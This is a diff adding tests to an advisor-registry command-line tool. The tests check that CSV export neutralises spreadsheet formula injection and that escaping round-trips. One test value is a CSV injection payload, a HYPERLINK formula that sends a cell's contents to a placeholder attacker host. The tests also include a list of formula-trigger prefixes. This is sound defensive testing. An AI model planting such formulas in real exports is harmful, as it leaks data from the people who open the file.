@@ -11,10 +11,12 @@ from zoneinfo import ZoneInfo
 
 import pytest
 from click.testing import CliRunner
+from hypothesis import given
+from hypothesis import strategies as st
 from sqlalchemy import func, select
 
 from bot.cli import main
-from handlers.advisors.registry_csv import parse_rows
+from handlers.advisors.registry_csv import escape_cell, parse_rows, unescape_cell
 from storage.db import create_engine, session_factory
 from storage.models import Advisor, AdvisorAuthorization, AdvisorStep
 
@@ -153,3 +155,57 @@ def test_large_import_in_one_transaction_and_preview(
     assert result.output.startswith("Am 01.01.2021 sind für 750 Personen Schritte fällig")
     assert "… und 745 weitere Personen." in result.output
     assert count(sqlite_url, AdvisorStep) == 0  # the preview sent and recorded nothing
+
+
+def test_formula_cells_are_exported_as_text_and_imported_unchanged(
+    cli: CliRunner, database_url: str, tmp_path: Path
+) -> None:
+    """A name like =HYPERLINK(...) would run as a formula when an admin opens the export in
+    a spreadsheet; the export prefixes a quote, and importing that file changes nothing."""
+    formula = '=HYPERLINK("https://evil.example/?"&A1,"Klick")'
+    source = tmp_path / "advisors.csv"
+    with source.open("w", encoding="utf-8", newline="") as handle:
+        csv.writer(handle).writerows(
+            [
+                HEADER.strip().split(","),
+                [formula, "eve@example.org", "+49 Institut", "@Digital", "de", "2019-03-15", ""],
+                ["'t Hooft", "tom@example.org", "-RKW", "'=schon Text", "de", "2019-03-15", ""],
+            ]
+        )
+    result = cli.invoke(main, ["advisors", "import", str(source)])
+    assert "created 2" in result.output, result.output
+    exported = tmp_path / "export.csv"
+    result = cli.invoke(main, ["advisors", "export", str(exported)])
+    assert result.exit_code == 0, result.output
+    rows = list(csv.DictReader(io.StringIO(exported.read_text(encoding="utf-8"))))
+    assert [(r["name"], r["institution"], r["fields"]) for r in rows] == [
+        ("'" + formula, "'+49 Institut", "'@Digital"),
+        ("'t Hooft", "'-RKW", "'=schon Text"),
+    ]
+    for row in rows:  # no cell a spreadsheet would evaluate
+        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row.values())
+    result = cli.invoke(main, ["advisors", "import", str(exported)])
+    assert "created 0, updated 0 (renewed 0), unchanged 2" in result.output, result.output
+
+    async def names() -> list[tuple[str, str, str]]:
+        engine = create_engine(database_url)
+        try:
+            async with session_factory(engine)() as session:
+                found = await session.execute(
+                    select(Advisor.name, Advisor.institution, Advisor.fields).order_by(Advisor.id)
+                )
+                return [tuple(row) for row in found]
+        finally:
+            await engine.dispose()
+
+    assert asyncio.run(names()) == [
+        (formula, "+49 Institut", "@Digital"),
+        ("'t Hooft", "-RKW", "=schon Text"),  # a quote typed as in Excel: text
+    ]
+
+
+@given(st.text(alphabet=st.sampled_from(list("'=+-@\t\rab ")), max_size=8))
+def test_escaping_a_cell_round_trips(cell: str) -> None:
+    escaped = escape_cell(cell)
+    assert isinstance(escaped, str) and not escaped.startswith(("=", "+", "-", "@", "\t", "\r"))
+    assert unescape_cell(escaped) == cell
